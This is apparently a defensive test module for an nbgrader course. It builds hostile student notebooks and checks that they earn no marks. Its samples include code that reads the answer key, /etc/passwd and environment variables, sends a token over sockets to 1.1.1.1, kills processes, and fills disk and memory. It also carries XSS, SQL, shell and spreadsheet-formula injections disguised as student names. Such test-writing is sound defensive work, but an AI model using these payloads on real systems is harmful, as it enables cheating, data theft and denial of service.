"""Hand-ins that attack the grading: what each tries, how it is made, and the marks that it must get.

Nobody in a class is expected to do this. It is here so that one who does gets no mark for it, and harms nobody.
"""

from __future__ import annotations

import copy
import json
import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from nbgrader_course import ROOT, answer_cell, model_answers

NAME = "01_physio_journey"
FILE = f"{NAME}.ipynb"
FULL: dict[str, float] = yaml.safe_load((ROOT / "tests" / "answers" / f"{NAME}.yaml").read_text("utf-8"))[
    "full_marks"
]
NOTHING = dict.fromkeys(FULL, 0)
HONEST = {**FULL, "extra": 0}
EXTRA = {**NOTHING, "extra": FULL["extra"]}
MODEL = model_answers(NAME)
RIGHT = """
def ownerless(touchpoints):
    return [one["touchpoint"] for one in touchpoints if one["owner"].strip() in ("", "Nobody")]
"""
EMPTY = "There are no answers in it"


@dataclass
class World:
    """What an attacker knows: where things lie, where to send what was found, and a folder for `evidence`, open to all."""

    course: Path
    home: Path
    evidence: Path
    port: int
    token: str

    def told(self, code: str) -> str:
        """The code with the places filled in."""
        for name in ("course", "home", "evidence", "port", "token"):
            code = code.replace(f"@{name}@", str(getattr(self, name)))
        return code


@dataclass
class Hostile:
    """`marks` by grade id, None for no marks at all; `told`: what the summary must say; `learner`: the folder's name."""

    name: str
    tries: str
    make: Callable[[dict[str, Any], Path, World], Any]
    marks: dict[str, float] | None
    told: str
    honest: bool
    learner: str


HOSTILE: list[Hostile] = []


def hostile(tries, marks=NOTHING, told="", honest=False, learner=""):
    """Add a function that changes the notebook in place, or writes the files itself and gives True.

    `honest`: the answers in it are the model's; else there are none.
    """

    def add(make):
        HOSTILE.append(Hostile(make.__name__, tries, make, marks, told, honest, learner or make.__name__))
        return make

    return add


def in_code(name, tries, code, marks=EXTRA, told=EMPTY):
    """Add code that stands in the optional cell."""

    def make(notebook, folder, world):
        cell(notebook, "code")["source"] = "# Optional: your function\n" + world.told(code)

    make.__name__ = name
    hostile(tries, marks, told)(make)


def in_answers(name, tries, source, marks=NOTHING, told=""):
    """Add source that stands in the answer cell."""

    def make(notebook, folder, world):
        text = source() if callable(source) else source
        cell(notebook, "answers")["source"] = "# Your answers\n" + world.told(text)

    make.__name__ = name
    hostile(tries, marks, told)(make)


def made(one: Hostile, released: dict[str, Any], folder: Path, world: World) -> None:
    """Lay one hand-in into the exercise's folder of its learner."""
    notebook = copy.deepcopy(released)
    cell(notebook, "answers")["source"] = answer_cell(MODEL) if one.honest else "# Your answers\nanswers = {}"
    if one.make(notebook, folder, world) is not True:
        write(folder, notebook)


def sign(one):
    return one.get("metadata", {}).get("nbgrader", {})


def cell(notebook, name):
    return next(one for one in notebook["cells"] if sign(one).get("grade_id") == name)


def write(folder, notebook, name=FILE):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(notebook), "utf-8")
    return True


def own_cell(source, kind="code", **metadata):
    run = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "metadata": metadata, "source": source, **run}


# --- forging what nbgrader knows


@hostile("500 points for each check, and checks that it wrote itself", told=EMPTY)
def forged_points(notebook, folder, world):
    for name in FULL:
        one = cell(notebook, name)
        one["source"] = "500.0"
        one["metadata"]["nbgrader"].update(points=500, locked=False, solution=True)


@hostile("outputs of the checks that show full marks", told=EMPTY)
def forged_outputs(notebook, folder, world):
    for name, most in FULL.items():
        data = {
            "text/plain": str(most),
            "text/html": "<div class='cx-mark'><ul><li>Full marks.</li></ul></div>",
        }
        cell(notebook, name)["outputs"] = [
            {"output_type": "execute_result", "execution_count": 1, "data": data, "metadata": {}}
        ]


@hostile("schema versions of another age, which stop stock nbgrader for everybody", told=EMPTY)
def forged_schema_versions(notebook, folder, world):
    for name, version in zip(FULL, (1, 0, 99, "three", None, [], -1), strict=True):
        cell(notebook, name)["metadata"]["nbgrader"]["schema_version"] = version


@hostile("checksums and cell types that do not fit", told=EMPTY)
def forged_checksums(notebook, folder, world):
    for name in FULL:
        cell(notebook, name)["metadata"]["nbgrader"].update(
            checksum="0" * 32, cell_type="markdown", task=True
        )


@hostile("cells of its own with the ids of the checks, before and behind them", told=EMPTY)
def forged_ids(notebook, folder, world):
    twins = [own_cell("5.0", nbgrader=dict(sign(cell(notebook, name)))) for name in FULL]
    notebook["cells"] = [*twins, *notebook["cells"], *copy.deepcopy(twins)]


@hostile("one more marked cell, with 100 points", told=EMPTY)
def a_marked_cell_of_its_own(notebook, folder, world):
    about = {"grade": True, "grade_id": "bonus", "points": 100, "locked": False, "schema_version": 3}
    notebook["cells"].append(own_cell("100.0", nbgrader={**about, "solution": False, "task": False}))


@hostile("the answer cell as a marked one, for a person to give points for", told=EMPTY)
def the_answer_cell_made_a_marked_one(notebook, folder, world):
    sign(cell(notebook, "answers")).update(grade=True, points=100)


@hostile("no check cells at all", marks=HONEST, honest=True)
def missing_checks(notebook, folder, world):
    notebook["cells"] = [one for one in notebook["cells"] if sign(one).get("grade_id") not in FULL]


@hostile("three hundred copies of each cell", marks=HONEST, honest=True)
def three_hundred_copies(notebook, folder, world):
    notebook["cells"] = notebook["cells"] + copy.deepcopy(notebook["cells"]) * 300


@hostile("a kernel of its own, and widgets", marks=HONEST, honest=True)
def forged_kernel(notebook, folder, world):
    notebook["metadata"] = {
        "kernelspec": {"name": "evil", "display_name": "<script>", "language": "bash"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": "<script>"}},
        "celltoolbar": "x",
    }


@hostile("a marked notebook, a sign that it is marked, and a page beside it", told=EMPTY)
def forged_results(notebook, folder, world):
    for place in (folder, folder / "autograded", folder / "feedback"):
        place.mkdir(parents=True)
        (place / ".cxkit-marked.json").write_text('{"fingerprint": "x", "look": [], "mended": []}', "utf-8")
        (place / f"{NAME}.html").write_text("<script>alert(1)</script>", "utf-8")
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0")


# --- code that wants marks without the work

in_code(
    "blanks_later_cells",
    "empties every cell that runs after it (input_transformers_cleanup)",
    "get_ipython().input_transformers_cleanup.append(lambda lines: [])",
    NOTHING,
)
in_code(
    "shows_a_number",
    "sys.displayhook(5.0), which nbgrader takes for marks",
    "import sys\nsys.displayhook(5.0)",
    NOTHING,
)
in_code(
    "reads_the_check_from_in",
    "takes the right result out of the check that runs (In, frames)",
    """
import gc, sys
def ownerless(touchpoints):
    found = [str(globals().get("In"))]
    frame = sys._getframe()
    while frame:
        found.append(str(frame.f_locals)[:20000])
        frame = frame.f_back
    found += [str(one) for one in gc.get_objects() if isinstance(one, str | list) and "Nobody" in str(one)][:50]
    raise ValueError(" ".join(found)[-280:])
""",
    NOTHING,
)
in_code(
    "reads_the_notebook_beside_it",
    "takes the check from the notebook in the working folder",
    """
import glob
def ownerless(touchpoints):
    found = [open(one).read() for one in glob.glob("**/*.ipynb", recursive=True) + glob.glob("/**/*.ipynb")]
    assert not found
    raise ValueError(str(found)[-280:])
""",
    NOTHING,
)
in_code(
    "equal_to_everything",
    "gives back an object that is equal to everything",
    """
class Same(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 1
    __hash__ = object.__hash__
def ownerless(touchpoints):
    return Same()
""",
    NOTHING,
)
in_code(
    "an_object_that_unpacks_itself",
    "gives back an object whose to_dict, tolist and __reduce__ do things",
    """
class Evil:
    def __reduce__(self): return (exec, ("open('@evidence@/pickled', 'w')",))
    def to_dict(self): return {"__class__": self}
    def tolist(self): return Evil()
def ownerless(touchpoints):
    return Evil()
""",
    NOTHING,
)
in_code(
    "answers_before_it_is_asked",
    "writes answers of its own to the pipe between it and the grader",
    """
import os
def ownerless(touchpoints):
    return []
for number in range(3, 30):
    try:
        os.write(number, b'{"ok": {"list": ["The list"]}}\\n' * 20)
    except OSError:
        pass
""",
    NOTHING,
)
in_code(
    "talks_nonsense_on_the_pipe",
    "writes what is no answer to the pipe between it and the grader",
    """
import os
for number in range(3, 30):
    try:
        os.write(number, b'{"ok": {"dict": []}}\\n{"ok": 5}\\n[]\\n\\xff\\n{"fault": 3}\\n')
    except OSError:
        pass
"""
    + RIGHT,
    NOTHING,
)
in_code(
    "floods_the_pipe",
    "writes 100 MB to the pipe between it and the grader",
    """
import os
for number in range(3, 30):
    try:
        for _ in range(100):
            os.write(number, b"x" * 1_000_000)
    except OSError:
        pass
"""
    + RIGHT,
    NOTHING,
)
in_code(
    "a_result_without_floor",
    "gives back lists in lists, 100,000 deep",
    """
def ownerless(touchpoints):
    found = []
    for _ in range(100_000):
        found = [found]
    return found
""",
    NOTHING,
)
in_code(
    "a_result_of_ten_million",
    "gives back ten million elements",
    "def ownerless(touchpoints):\n    return [0] * 10_000_000",
    NOTHING,
)
in_code(
    "changes_the_marking",
    "swaps the course's own functions for its own",
    """
import builtins, json, sys
import cxkit.teaching.marking as marking
from cxkit.teaching.sheet import Sheet
marking.works = marking.same = lambda *given, **named: True
Sheet.mark = Sheet.mark_extra = lambda *given: 5.0
builtins.len = lambda one: 1
sys.modules["inside"] = None
def ownerless(touchpoints):
    return 5.0
""",
    NOTHING,
)
in_code(
    "faults_that_bite",
    "raises an exception whose name, words and display are code",
    """
class SystemExit(BaseException):
    def __str__(self): raise KeyboardInterrupt
    def _render_traceback_(self): return ["5.0"]
SystemExit.__name__ = "<script>alert(1)</script>" * 100
def ownerless(touchpoints):
    raise SystemExit
""",
    NOTHING,
)

in_code(
    "tells_what_it_is_asked",
    "puts what the check calls it with into the words of a fault",
    """
def ownerless(touchpoints):
    raise ValueError(repr(touchpoints))
""",
    NOTHING,
)
in_code(
    "is_named_after_what_it_is_asked",
    "puts what the check calls it with into the name of a fault, and of the kind of a result",
    """
def ownerless(touchpoints):
    name = "S" + repr(touchpoints)[30:60].encode().hex()
    if len(touchpoints) == 2:
        return type(name, (), {})()
    raise type(name, (KeyError,), {"__module__": "builtins"})(name)
""",
    NOTHING,
)

# --- code that looks for what is not its own

LOOKS = """
import glob, os
found = []
def look(place):
    try:
        with open(place, "rb") as file:
            found.append(file.read(3_000_000).decode("utf-8", "replace"))
    except OSError:
        pass
"""
TELLS = """
words = " ".join(found)
at = words.find("@token@")
words = words[at - 20:at + 200] if at >= 0 else words[:200]
answers = {"wait_length": words}
def ownerless(touchpoints):
    raise ValueError(words)
"""
for _name, _tries, _places in (
    (
        "reads_the_solution",
        "reads the key in solutions/",
        '["@course@/solutions", "../../../solutions", "../../source"]',
    ),
    ("reads_the_gradebook", "reads the gradebook", '["@course@", "../../.."]'),
    ("reads_a_classmate", "reads a classmate's notebook", '["@course@/submitted", "../.."]'),
    (
        "reads_the_home",
        "reads the instructor's own files and /etc/passwd",
        '["@home@", "~", "/root", "/etc", "/home"]',
    ),
    (
        "reads_the_processes",
        "reads the memory and settings of other processes",
        '["/proc/1", "/proc/self", "/sys"]',
    ),
):
    in_code(
        _name,
        _tries,
        LOOKS
        + f"""
for place in {_places}:
    for found_there in [place, *glob.glob(os.path.expanduser(place) + "/**", recursive=True)][:2000]:
        look(found_there)
found.append(str(dict(os.environ)))
"""
        + TELLS,
        NOTHING,
    )

# --- code that works, and does harm beside it

in_code(
    "outlives_the_grader",
    "leaves a process behind that writes marks seconds later",
    """
import os, subprocess, sys
later = "sleep 5; echo 1 > @evidence@/later; : @token@"
for start in (
    lambda: subprocess.Popen(["sh", "-c", later], start_new_session=True),
    lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(5); open('@evidence@/later', 'w')"]),
    lambda: os.system("nohup sh -c '" + later + "' &"),
    lambda: os.fork() or os.execv("/bin/sh", ["sh", "-c", later]),
):
    try:
        start()
    except Exception:
        pass
"""
    + RIGHT,
)
in_code(
    "thirty_processes",
    "starts 30 processes that never end",
    """
import multiprocessing, os, time
for _ in range(30):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
    except Exception:
        pass
"""
    + RIGHT,
)
in_code(
    "threads_without_end",
    "starts 2,000 threads",
    """
import threading, time
try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
except Exception:
    pass
"""
    + RIGHT,
)
in_code(
    "kills_the_grader",
    "ends every process that it can reach",
    """
import os, signal
for number in [os.getppid(), 1, -1, *range(2, 5000)]:
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
"""
    + RIGHT,
)
in_code(
    "fills_the_disk",
    "writes 146 MB, and 5,000 small files",
    """
for place in (".", "/tmp", "/", "@evidence@", "@course@"):
    try:
        with open(place + "/full", "wb") as file:
            for _ in range(146):
                file.write(bytes(1_000_000))
    except OSError:
        pass
try:
    for number in range(5_000):
        open("/tmp/%d" % number, "w").close()
except OSError:
    pass
"""
    + RIGHT,
)
in_code(
    "fills_the_memory",
    "asks for 100 GB",
    """
hoard = []
try:
    while True:
        hoard.append(bytearray(200_000_000))
except MemoryError:
    hoard.clear()
"""
    + RIGHT,
)
in_code(
    "writes_everywhere",
    "overwrites the gradebook, the key, the exercise and a classmate's work",
    """
import glob, os, shutil
for place in glob.glob("@course@/**", recursive=True) + ["@course@/gradebook.db", "@evidence@/here", "/inside.py"] + [
    "@course@/submitted/ann/01_physio_journey/01_physio_journey.ipynb", "@course@/solutions/new", "@home@/new"
] + glob.glob("/usr/lib/python3*/json/*.py"):
    for how in ("w", "x"):
        try:
            with open(place, how) as file:
                file.write("gone")
        except OSError:
            pass
shutil.rmtree("@course@", ignore_errors=True)
"""
    + RIGHT,
)
in_code(
    "calls_home",
    "sends what it finds over the network, and through sockets of this computer",
    """
import socket
for kind, place in (
    (socket.AF_INET, ("127.0.0.1", @port@)), (socket.AF_UNIX, chr(0) + "@token@"), (socket.AF_UNIX, "@evidence@/socket"),
    (socket.AF_INET, ("1.1.1.1", 53)),
):
    try:
        with socket.socket(kind) as line:
            line.settimeout(1)
            line.connect(place)
            line.sendall(b"@token@")
    except OSError:
        pass
"""
    + RIGHT,
)
in_code(
    "asks_the_kernel",
    "asks the kernel for other rights (unshare, mount, ptrace, setns, clone, setuid)",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert libc.unshare(0x10000000) == -1 and libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == -1
assert libc.ptrace(16, 1, 0, 0) == -1 and libc.syscall(321, 0, 0, 0) == -1
for change in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/x", 0o60600, 2048)):
    try:
        change()
        raise SystemExit
    except OSError:
        pass
"""
    + RIGHT,
)
in_code("leaves_python", "ends Python once it is loaded", RIGHT + "\nimport os\nos._exit(0)", NOTHING)
in_code(
    "leaves_when_called",
    "ends Python when it is called",
    "def ownerless(touchpoints):\n    raise SystemExit(0)",
    NOTHING,
)
in_code("crashes_python", "breaks Python itself", "import ctypes\nctypes.string_at(0)\n" + RIGHT, NOTHING)
in_code(
    "never_ends", "does not come back", "def ownerless(touchpoints):\n    while True:\n        pass", NOTHING
)
in_code(
    "never_ends_and_takes_no_hint",
    "does not come back, and catches whatever would end it",
    """
def ownerless(touchpoints):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    NOTHING,
)
in_code(
    "sleeps",
    "sleeps for eleven days",
    "import time\ndef ownerless(touchpoints):\n    time.sleep(10**6)",
    NOTHING,
)


# --- answers that are no answers

in_answers(
    "answers_from_the_solution",
    "an answer cell whose code reads the key",
    """
try:
    exec(open("@course@/solutions/01_physio_journey/01_physio_journey.ipynb").read())
except OSError:
    answers = {"wait_length": str(__import__("os").environ) + open("/etc/passwd").read()}
""",
    told="works something out",
)
in_answers(
    "answers_equal_to_everything",
    "answers by code, each of them equal to everything",
    """
class Same(str):
    def __eq__(self, other): return True
    def __hash__(self): return 7
    def __str__(self): return self
answers = {Same("journey"): [Same()], Same("wait_before"): Same(), "break_at": Same("x")}
""",
    told="The answer cell",
)
in_answers(
    "answers_of_ten_million",
    "a literal of ten million elements",
    lambda: "answers = {'journey': [" + "0," * 10_000_000 + "]}",
    told="much longer than any answers are",
)
in_answers(
    "answers_without_floor",
    "a literal 100,000 lists deep",
    lambda: "answers = " + "[" * 90_000 + "]" * 90_000,
    told="cannot be read",
)
in_answers(
    "answers_of_190_floors",
    "a literal 190 lists deep, as deep as Python reads",
    lambda: "answers = {'journey': " + "[" * 190 + "]" * 190 + "}",
    told="all marks are 0",
)
in_answers(
    "answers_that_are_sums",
    "a sum of 900 numbers, which breaks who writes it out again",
    lambda: "answers = {'wait_length': " + "1+" * 900 + "1}",
    told="The answer cell",
)
in_answers(
    "answers_of_many_digits",
    "numbers of 100,000 digits as answers and as their names",
    lambda: (
        "answers = {'wait_length': 0x" + "f" * 90_000 + ", 0x" + "e" * 90_000 + ": 1, 'wait_before': 1e999}"
    ),
    told="does not ask",
)
in_answers(
    "answers_of_other_kinds",
    "answers of kinds that no form gives",
    "answers = {'journey': {1, 2}, 'wait_before': b'x', 'break_at': {'a': 1j}, 'break_words': ..., (1,): None}",
    told="does not ask",
)
in_answers(
    "brackets_for_hours",
    "a cell that takes hours to look for answers in",
    lambda: "answers = [\n" * 15 + "1,\n" * 60_000 + "}" * 200,
    told="cannot be read",
)


@hostile("thirty such cells", marks=None, told="It is so large")
def thirty_cells_of_brackets(notebook, folder, world):
    source = "answers = [\n" * 15 + "1,\n" * 60_000 + "}" * 200
    notebook["cells"] += [own_cell(source + " " * at) for at in range(30)]


@hostile(
    "signs that break who writes them: half letters, NUL, direction",
    marks={**HONEST, "breaks": 2},
    honest=True,
)
def letters_that_are_none(notebook, folder, world):
    given = {**MODEL, "break_words": "a\x00b \ud800 \u202e c d e", "new_owner": "\udfff"}
    cell(notebook, "answers")["source"] = f"# Your answers\nanswers = {given!r}"


@hostile("a script in each answer", marks=HONEST, honest=True)
def scripts_in_answers(notebook, folder, world):
    script = "</li></ul><script>alert(1)</script><img src=x onerror=alert(1)> four words of it"
    given = {**MODEL, "break_words": script, "new_owner": "<svg onload=alert(1)> a clerk"}
    cell(notebook, "answers")["source"] = answer_cell(given)


@hostile("a script in outputs, texts, attachments and metadata", marks=HONEST, honest=True)
def scripts_in_outputs(notebook, folder, world):
    bad = "<script>alert(1)</script>"
    output = {"output_type": "display_data", "data": {"text/html": bad}, "metadata": {}}
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [output]
        one["metadata"]["tags"] = [bad]
    notebook["cells"].insert(
        0, {**own_cell(f"# {bad}", "markdown"), "attachments": {"x": {"text/html": bad}}}
    )


@hostile(
    "colours, bells and new lines for the terminal of who grades",
    marks=HONEST,
    honest=True,
    told="does not ask",
)
def words_for_the_terminal(notebook, folder, world):
    given = {**MODEL, "\x1b[2J\x1b]0;x\x07": 1, "x\n  ann: 0 marks\r": 2, "\u202e\ud800": 3}
    cell(notebook, "answers")["source"] = f"# Your answers\nanswers = {given!r}"


# --- files that are no notebooks


def instead(name, tries, told, make):
    """Add something that lies where the notebook should be."""

    def lay(notebook, folder, world):
        folder.mkdir(parents=True)
        make(folder / FILE, world)
        return True

    lay.__name__ = name
    hostile(tries, None, told)(lay)


def _socket(path):
    with socket.socket(socket.AF_UNIX) as one:
        here = Path.cwd()
        os.chdir(path.parent)  # a socket's path may have 107 letters
        try:
            one.bind(path.name)
        finally:
            os.chdir(here)


def _long(path, size, start=b""):
    with path.open("wb") as file:
        file.write(start)
        file.truncate(size)


instead(
    "a_link_to_the_solution",
    "a link where the notebook should be",
    "is a link",
    lambda path, world: path.symlink_to(world.course / "solutions" / NAME / FILE),
)
instead(
    "a_link_to_a_classmate",
    "a link to a classmate's notebook",
    "is a link",
    lambda path, world: path.symlink_to(f"../../ann/{NAME}/{FILE}"),
)
instead(
    "a_link_without_end",
    "a device that never ends",
    "is a link",
    lambda path, world: path.symlink_to("/dev/zero"),
)
instead(
    "a_pipe", "a pipe, on which a reader waits for ever", "is no file", lambda path, world: os.mkfifo(path)
)
instead("a_socket", "a socket", "is no file", lambda path, world: _socket(path))
instead(
    "a_terabyte",
    "a file of 1,000 GB that takes no room",
    "has 1,000,000 MB",
    lambda path, world: _long(path, 1_000_000 * 2**20, b"{"),
)
instead(
    "brackets_a_million_deep",
    "JSON a million lists deep",
    "no notebook",
    lambda path, world: path.write_bytes(b'{"cells": ' + b"[" * 1_000_000),
)
instead(
    "a_zip_with_the_name_of_a_notebook",
    "a zip with the name of a notebook",
    "packed (zip) file",
    lambda path, world: path.write_bytes(b"PK\3\4" + bytes(100)),
)


@hostile("a folder that is a classmate's", None, "is a link")
def a_folder_that_is_a_classmates(notebook, folder, world):
    folder.parent.mkdir(parents=True)
    folder.symlink_to(f"../ann/{NAME}")
    return True


@hostile("a learner that is a classmate", None, "is a link")
def a_learner_that_is_a_classmate(notebook, folder, world):
    folder.parent.symlink_to("ann")
    return True


@hostile("links to all that it wants to have in its feedback folder", HONEST, honest=True)
def links_beside_it(notebook, folder, world):
    write(folder, notebook)
    for number, to in enumerate(
        (world.course / "gradebook.db", world.course / "solutions", world.home, Path("/etc/passwd"), Path())
    ):
        (folder / f"data{number}").symlink_to(to)
    (folder / "other.ipynb").symlink_to(world.course / "solutions" / NAME / FILE)
    (folder / "timestamp.txt").symlink_to("/etc/passwd")
    return True


@hostile("modules with the names of those that grading uses", HONEST, honest=True)
def shadowed_modules(notebook, folder, world):
    cell(notebook, "code")["source"] = "# Optional: your function\nimport json, pandas, secrets\n"
    write(folder, notebook)
    for name in (
        "json",
        "pandas",
        "cxkit",
        "sitecustomize",
        "usercustomize",
        "ast",
        "secrets",
        "nbgrader_config",
    ):
        (folder / f"{name}.py").write_text(f"open({str(world.evidence / 'shadow')!r}, 'w')\n", "utf-8")
    (folder / "01_physio_journey.yaml").write_text("title: mine", "utf-8")
    return True


@hostile("150 MB of output", HONEST, honest=True)
def output_of_150_megabytes(notebook, folder, world):
    folder.mkdir(parents=True)
    output = {"output_type": "stream", "name": "stdout", "text": "@here@"}
    notebook["cells"].insert(0, {**own_cell("1"), "outputs": [output]})
    before, _, after = json.dumps(notebook).partition("@here@")
    with (folder / FILE).open("w", encoding="utf-8") as file:
        file.write(before)
        for _ in range(150):
            file.write("x" * 1_000_000)
        file.write(after)
    return True


@hostile("30,000 cells of its own", HONEST, honest=True)
def thirty_thousand_cells(notebook, folder, world):
    notebook["cells"] += [own_cell("x = 1") for _ in range(30_000)]


@hostile("a cell of two million blank lines, over which a search for “exit” takes days", HONEST, honest=True)
def two_million_blank_lines(notebook, folder, world):
    notebook["cells"].append(own_cell("\n" * 2_000_000 + "x"))
    notebook["cells"].append(own_cell("exit" + " " * 1_000_000 + "x"))


@hostile("metadata 900 lists deep, which not every program can read again", told=EMPTY)
def metadata_without_floor(notebook, folder, world):
    deep: Any = 1
    for _ in range(900):
        deep = [deep]
    notebook["cells"][0]["metadata"]["deep"] = deep


@hostile("2,000 files and folders beside it", HONEST, honest=True)
def two_thousand_files(notebook, folder, world):
    write(folder, notebook)
    for number in range(1000):
        (folder / f"{number}.txt").write_text("x", "utf-8")
        (folder / f"d{number}").mkdir()
    (folder / "d1" / "up").symlink_to("../..")
    return True


@hostile(
    "forty other notebooks beside it, each with other answers",
    HONEST,
    honest=True,
    told="holds other answers",
)
def forty_notebooks(notebook, folder, world):
    write(folder, notebook)
    for number in range(40):
        cell(notebook, "answers")["source"] = answer_cell(
            {**MODEL, "break_words": f"another answer number {number}"}
        )
        write(folder, notebook, f"\x1b[31m{number}\n.ipynb")
    return True


def stamped(name, tries, data):
    """Add an honest notebook with a forged time of handing in."""

    def make(notebook, folder, world):
        write(folder, notebook)
        data(folder / "timestamp.txt")
        return True

    make.__name__ = name
    hostile(tries, HONEST, "", honest=True)(make)


stamped(
    "handed_in_in_9999",
    "a time of handing in that is to come",
    lambda path: path.write_text("9999-12-31 23:59:59 -1400", "utf-8"),
)
stamped(
    "a_timestamp_of_a_terabyte",
    "a time of handing in of 1,000 GB",
    lambda path: _long(path, 10**12, b"2026-11-22 "),
)
stamped("a_timestamp_that_is_a_pipe", "a pipe for the time of handing in", os.mkfifo)


# --- names


def named(learner, name, tries, marks=HONEST, told=""):
    """Add an honest notebook of somebody with an odd name."""

    def make(notebook, folder, world):
        return write(folder, notebook)

    make.__name__ = name
    hostile(tries, marks, told, honest=True, learner=learner)(make)


named("=cmd|' calc'!A0", "named_as_a_formula", "a formula for a spreadsheet as a name")
named("<script>alert(1)<", "named_as_a_script", "a script as a name")
named("eve\n  ann: No marks.\x1b[2J", "named_as_two_lines", "a name that forges a line of the summary")
named("ANN", "named_as_a_classmate", "a name that differs from a classmate's in its case only")
named("con", "named_as_a_device", "a name that Windows keeps for a device")
named("n" * 250, "named_at_length", "a name of 250 letters")
named("'; DROP TABLE student; --", "named_as_a_command", "a command for the gradebook as a name")
named("{0.__class__}%s$(touch x)", "named_as_a_template", "a template and a shell command as a name")
named(os.fsdecode(b"eve\xff"), "named_in_no_letters", "a name whose bytes are no text", None, "is no text")
